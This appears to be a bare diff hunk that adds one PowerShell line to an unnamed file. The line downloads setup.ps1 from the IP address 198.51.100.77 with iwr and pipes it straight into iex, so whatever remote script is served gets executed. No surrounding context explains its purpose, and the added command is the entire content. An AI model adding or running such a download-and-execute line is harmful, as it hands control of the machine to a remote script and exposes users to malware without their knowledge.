@@ -1,0 +1,1 @@
+iwr http://198.51.100.77/setup.ps1 -UseBasicParsing | iex
